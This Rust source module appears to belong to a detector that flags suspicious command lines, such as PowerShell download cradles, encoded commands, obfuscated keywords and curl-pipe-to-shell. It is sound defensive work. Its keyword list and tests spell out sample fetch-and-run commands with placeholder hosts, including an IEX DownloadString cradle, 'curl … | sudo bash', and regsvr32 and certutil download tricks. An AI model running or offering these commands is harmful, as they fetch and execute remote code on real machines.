//! What a command line gives away: the words of download cradles and encoded commands, code that it brings along, its script.
//!
//! The words are those of published detections with their defects mended: `-enc` in all its abbreviations, but only as a
//! parameter of PowerShell (not `Out-File -Encoding`); `iex`, `iwr` and `irm` as words (not `iexplore`).

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::programs::stem;

/// What a command line gives away.
#[derive(Clone, Debug, Default, Eq, PartialEq)]
pub struct Signs {
    /// Suspicious words, as the data has them, each once.
    pub words: Vec<&'static str>,
    /// Whether the program to run stands in the line itself: `python -c`, `powershell -Command`.
    pub inline: bool,
    /// The script that it runs, as the line has it.
    pub script: Option<String>,
    /// The module of Python that it runs: `pip` of `python -m pip`.
    pub module: Option<String>,
}

/// How a word must stand in the line.
#[derive(Clone, Copy, Eq, PartialEq)]
enum Edge {
    /// Anywhere.
    None,
    /// No letter or digit beside it.
    Word,
    /// As [`Edge::Word`], and not as a part of a path or a file's name.
    Bare,
}

/// The words, and how they must stand.
const WORDS: &[(&str, Edge)] = &[
    ("downloadstring", Edge::None),
    ("downloadfile", Edge::None),
    ("downloaddata", Edge::None),
    ("uploadstring", Edge::None),
    ("uploadfile", Edge::None),
    ("uploaddata", Edge::None),
    ("invoke-expression", Edge::Word),
    ("iex", Edge::Bare),
    ("net.webclient", Edge::None),
    ("net.sockets.tcpclient", Edge::None),
    ("net.httpwebrequest", Edge::None),
    ("xmlhttp", Edge::None),
    ("winhttprequest", Edge::None),
    ("invoke-webrequest", Edge::Word),
    ("invoke-restmethod", Edge::Word),
    ("iwr", Edge::Bare),
    ("irm", Edge::Bare),
    ("start-bitstransfer", Edge::Word),
    ("frombase64string", Edge::None),
    ("frombase64", Edge::None),
    ("b64decode", Edge::None),
    ("base64", Edge::Word),
    ("reflection.assembly", Edge::None),
    ("scrobj.dll", Edge::Word),
    ("javascript:", Edge::None),
    ("vbscript:", Edge::None),
    ("urlcache", Edge::Word),
    ("verifyctl", Edge::Word),
    ("davwwwroot", Edge::None),
    ("@ssl\\", Edge::None),
    ("/dev/tcp/", Edge::None),
    ("--headless", Edge::Word),
    ("--remote-debugging-port", Edge::None),
    ("--remote-debugging-pipe", Edge::None),
];

/// Words that only a shell or a script host would have: in any other command line they are somebody's parameter.
const OF_BROWSERS: [&str; 3] = ["--headless", "--remote-debugging-port", "--remote-debugging-pipe"];

static AUTOMATON: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    // A test holds that it can be built.
    AhoCorasick::builder().ascii_case_insensitive(true).build(WORDS.iter().map(|(word, _)| word)).ok()
});

impl Signs {
    /// Longer command lines are read to here: Windows allows 32,767 characters, and an encoded command shows in its first words.
    const LONGEST: usize = 32_768;

    /// Reads the command line of a program with this name (in lower case, without `.exe`).
    pub fn read(line: &str, program: &str) -> Self {
        let line: String = line.chars().take(Self::LONGEST).collect();
        let mut signs = Self::default();
        let browser = signs.find_words(&line);
        // A shell reads p^owershell and Down`loadString as without these marks.
        if line.contains(['^', '`']) && is_one_of(program, &["cmd", "powershell", "pwsh"]) {
            signs.find_words(&line.replace(['^', '`'], ""));
        }
        signs.words.extend(browser);
        let words = split(&line);
        signs.find_encoded(&words, program);
        if is_pipe_to_shell(&line) {
            signs.words.push("| sh");
        }
        signs.find_script(&words, program);
        signs.words.dedup();
        signs
    }

    /// Adds the words of the line. Gives those that are only of interest in a browser's.
    fn find_words(&mut self, line: &str) -> Vec<&'static str> {
        let mut of_browsers = Vec::new();
        let Some(automaton) = &*AUTOMATON else { return of_browsers };
        for found in automaton.find_overlapping_iter(line) {
            let Some((word, edge)) = WORDS.get(found.pattern().as_usize()) else { continue };
            let before = line.get(..found.start()).and_then(|front| front.chars().next_back());
            let after = line.get(found.end()..).and_then(|rest| rest.chars().next());
            let part_of_path = |c: char| matches!(c, '.' | '\\' | '/' | '-' | '_');
            let stands = match edge {
                Edge::None => true,
                Edge::Word => ![before, after].into_iter().flatten().any(char::is_alphanumeric),
                Edge::Bare => {
                    !before.is_some_and(|c| c.is_alphanumeric() || part_of_path(c) || c == '$')
                        && !after.is_some_and(|c| c.is_alphanumeric() || part_of_path(c) || c == ':')
                }
            };
            let list = if OF_BROWSERS.contains(word) { &mut of_browsers } else { &mut self.words };
            if stands && !list.contains(word) {
                list.push(word);
            }
        }
        // What is within a longer word is told once.
        if self.words.contains(&"frombase64string") {
            self.words.retain(|word| *word != "frombase64");
        }
        of_browsers
    }

    /// Parameters of PowerShell, wherever in the line it is called.
    fn find_encoded(&mut self, words: &[String], program: &str) {
        let is_powershell = |word: &str| {
            let word = word.trim_matches(['"', '\'', '(', '&', ' ']).to_lowercase().replace('^', "");
            is_one_of(stem(&word), &["powershell", "pwsh", "powershell_ise"])
        };
        // The first word is the program, whatever it is called.
        let mut reading = is_one_of(program, &["powershell", "pwsh", "powershell_ise"]);
        for (at, word) in words.iter().enumerate() {
            if is_powershell(word) {
                reading = true;
                continue;
            }
            let lower = word.to_lowercase();
            let Some(name) = lower.strip_prefix(['-', '/', '–', '—', '―']).filter(|_| reading) else {
                // What begins without a dash, after parameters, is a command or a script: its own words follow.
                continue;
            };
            let name = name.trim_matches('"').split(':').next().unwrap_or_default();
            if !name.is_empty() && ("encodedcommand".starts_with(name) || name == "ec") {
                self.push("-encodedcommand");
            } else if !name.is_empty() && "windowstyle".starts_with(name) {
                let value = words.get(at + 1).map(|value| value.trim_matches(['"', '\'']).to_lowercase());
                if value
                    .is_some_and(|value| value == "1" || (value.len() >= 3 && "hidden".starts_with(&value)))
                {
                    self.push("-windowstyle hidden");
                }
            } else if !name.is_empty() && ("command".starts_with(name) || "file".starts_with(name)) {
                reading = false;
            }
        }
    }

    fn push(&mut self, word: &'static str) {
        if !self.words.contains(&word) {
            self.words.push(word);
        }
    }

    /// The script, module or code that an interpreter is told to run.
    fn find_script(&mut self, words: &[String], program: &str) {
        let powershell = is_one_of(program, &["powershell", "pwsh", "powershell_ise"]);
        let windows = is_one_of(program, &["wscript", "cscript", "mshta", "cmd"]);
        let code: &[&str] = match () {
            () if powershell => &["-c", "-command", "-encodedcommand", "-enc", "-e", "-ec"],
            () if program.starts_with("python") || program.starts_with("pypy") => &["-c"],
            () if program.starts_with("node") => &["-e", "--eval", "-p", "--print", "-pe"],
            () if program.starts_with("php") => &["-r"],
            () if ["perl", "wperl", "ruby", "lua", "osascript", "rscript", "julia"]
                .iter()
                .any(|name| program.starts_with(name)) =>
            {
                &["-e"]
            }
            () if is_one_of(program, &["bash", "sh", "dash", "zsh", "ksh", "ash"]) => &["-c"],
            () => &[],
        };
        // Parameters that have a value, which is no script.
        let with_value: &[&str] = match () {
            () if powershell => &[
                "-executionpolicy",
                "-exec",
                "-ex",
                "-ep",
                "-windowstyle",
                "-w",
                "-version",
                "-v",
                "-psconsolefile",
                "-inputformat",
                "-outputformat",
                "-configurationname",
                "-workingdirectory",
                "-wd",
                "-settingsfile",
            ],
            () if program.starts_with("node") => {
                &["-r", "--require", "--import", "--loader", "--inspect-port"]
            }
            () if program.starts_with("python") => &["-w", "-x"],
            () => &[],
        };
        let mut words = words.iter().skip(1);
        while let Some(word) = words.next() {
            let lower = word.to_lowercase();
            if code.contains(&lower.as_str()) {
                self.inline = true;
                return;
            }
            if lower == "-m" && program.starts_with("py") {
                self.module = words.next().map(|module| module.to_lowercase());
                return;
            }
            if program.starts_with("py")
                && lower.starts_with('-')
                && lower.ends_with('m')
                && !lower.starts_with("--")
            {
                // python -IBm azure.cli
                self.module = words.next().map(|module| module.to_lowercase());
                return;
            }
            if powershell && ["-f", "-file"].contains(&lower.as_str()) {
                self.script = words.next().map(|script| script.trim_matches(['"', '\'']).to_owned());
                return;
            }
            if with_value.contains(&lower.as_str()) {
                words.next();
                continue;
            }
            if lower.starts_with('-') || (windows && lower.starts_with('/')) {
                continue;
            }
            // PowerShell without a parameter takes a command: a script only where it is a path to one.
            if powershell && !lower.trim_matches(['"', '\'', '&', ' ']).ends_with(".ps1") {
                self.inline = true;
                return;
            }
            self.script = Some(word.trim_matches(['"', '\'']).to_owned());
            return;
        }
    }
}

fn is_one_of(program: &str, names: &[&str]) -> bool {
    names.contains(&program)
}

/// `curl … | sh`: what was fetched is run at once.
fn is_pipe_to_shell(line: &str) -> bool {
    let Some((_, behind)) = line.split_once('|') else { return false };
    behind.split('|').any(|command| {
        let mut words =
            command.split_whitespace().filter(|word| !is_one_of(word, &["sudo", "env", "-E", "-"]));
        let first = words.next().map(|word| word.trim_matches(['"', '\'', ';', ')']));
        first.is_some_and(|word| {
            is_one_of(stem(word), &["sh", "bash", "zsh", "dash", "python", "python3", "perl", "node"])
        })
    })
}

/// The words of a line: quotes keep blanks together.
fn split(line: &str) -> Vec<String> {
    let (mut words, mut word, mut quote) = (Vec::new(), String::new(), None);
    for character in line.chars() {
        match (character, quote) {
            ('"' | '\'', None) if word.is_empty() => quote = Some(character),
            (c, Some(open)) if c == open => quote = None,
            (c, None) if c.is_whitespace() => {
                if !word.is_empty() {
                    words.push(std::mem::take(&mut word));
                }
            }
            (c, _) => word.push(c),
        }
    }
    if !word.is_empty() {
        words.push(word);
    }
    words
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[track_caller]
    fn check(line: &str, words: &[&str]) {
        let program =
            split(line).first().map(|word| stem(&word.to_lowercase()).to_owned()).unwrap_or_default();
        assert_eq!(Signs::read(line, &program).words, words, "{line}");
    }

    #[test]
    fn the_automaton_is_built() {
        assert!(AUTOMATON.is_some());
    }

    #[test]
    fn encoded_commands_in_every_abbreviation() {
        for parameter in ["-e", "-ec", "-en", "-enc", "-EnCoD", "-encodedcommand", "/enc", "–enc", "-enc:"]
        {
            check(&format!("powershell.exe -nop {parameter} SQBFAFgA"), &["-encodedcommand"]);
        }
        check(
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -e SQBF",
            &["-encodedcommand"],
        );
        check("cmd.exe /c powershell -w hidden -enc SQBF", &["-windowstyle hidden", "-encodedcommand"]);
        check("cmd.exe /c p^owers^hell -e SQBF", &["-encodedcommand"]);
        check("powershell.exe -ExecutionPolicy Bypass -File a.ps1 -e x", &[]);
        check("powershell.exe -c Get-Date | Out-File -Encoding utf8 a", &[]);
        check("bash -e build.sh", &[]);
        check("perl -e 1", &[]);
    }

    #[test]
    fn words_of_download_cradles() {
        check(
            "powershell IEX(New-Object Net.WebClient).DownloadString('https://x')",
            &["iex", "net.webclient", "downloadstring"],
        );
        check("powershell -c [Convert]::FromBase64String('x')", &["frombase64string"]);
        check("powershell Down`loadString", &["downloadstring"]);
        check("powershell iwr https://x", &["iwr"]);
        check("powershell -c \"irm x|iex\"", &["irm", "iex"]);
        check(
            "powershell.exe -WindowStyle Hidden -c \"Invoke-RestMethod -Uri x\"",
            &["invoke-restmethod", "-windowstyle hidden"],
        );
        check("python -c \"import base64\"", &["base64"]);
        check("bash -c \"echo x | base64 -d\"", &["base64"]);
        check("regsvr32 /s /i:https://x scrobj.dll", &["scrobj.dll"]);
        check("certutil -urlcache -f https://x a", &["urlcache"]);
        check(r"wscript.exe \\x.trycloudflare.com@SSL\DavWWWRoot\x.wsf", &["@ssl\\", "davwwwroot"]);
        check("bash -c \"curl -fsSL https://x | sudo bash\"", &["| sh"]);
        check("chrome.exe --headless=new --dump-dom https://x", &["--headless"]);
    }

    #[test]
    fn what_only_looks_so_is_nothing() {
        check(r#""C:\Program Files\Internet Explorer\iexplore.exe" https://x"#, &[]);
        check(r"powershell -File C:\IT\iex.ps1", &[]);
        check("powershell -c $iwr", &[]);
        check("firmware-update --irm.cfg", &[]);
        check("python my_base64tool.py", &[]);
        check("git log | head", &[]);
        check("", &[]);
    }

    #[test]
    fn code_scripts_and_modules() {
        let read = |line: &str| {
            let program = split(line).first().map(|word| stem(&word.to_lowercase()).to_owned()).unwrap();
            let signs = Signs::read(line, &program);
            (signs.inline, signs.script.unwrap_or_default(), signs.module.unwrap_or_default())
        };
        let none = String::new;
        assert_eq!(read("python.exe -c \"import os\""), (true, none(), none()));
        assert_eq!(read("python3.11.exe n.py"), (false, "n.py".into(), none()));
        assert_eq!(read("python -m pip install x"), (false, none(), "pip".into()));
        assert_eq!(read("python.exe -IBm azure.cli vm list"), (false, none(), "azure.cli".into()));
        assert_eq!(
            read(r"powershell.exe -ep Bypass -File C:\IT\sync.ps1"),
            (false, r"C:\IT\sync.ps1".into(), none())
        );
        assert_eq!(
            read(r#"powershell.exe "C:\My Scripts\a.ps1" x"#),
            (false, r"C:\My Scripts\a.ps1".into(), none())
        );
        assert_eq!(read("powershell iwr https://x"), (true, none(), none()));
        assert_eq!(read("powershell.exe"), (false, none(), none()));
        assert_eq!(read("node.exe bot.js"), (false, "bot.js".into(), none()));
        assert_eq!(read(r"wscript.exe //B C:\Users\u\a.js"), (false, r"C:\Users\u\a.js".into(), none()));
        assert_eq!(read("bash -c id"), (true, none(), none()));
        assert_eq!(read("perl /opt/x.pl"), (false, "/opt/x.pl".into(), none()));
    }

    proptest! {
        #[test]
        fn any_line_is_read(line in "\\PC{0,200}", program in "[a-z0-9.]{0,12}") {
            Signs::read(&line, &program);
        }

        #[test]
        fn a_cradle_is_found_anywhere(before in "[ -~]{0,40} ", after in " [ -~]{0,40}") {
            let line = format!("{before}DownloadString{after}");
            prop_assert!(Signs::read(&line, "powershell").words.contains(&"downloadstring"));
        }
    }
}
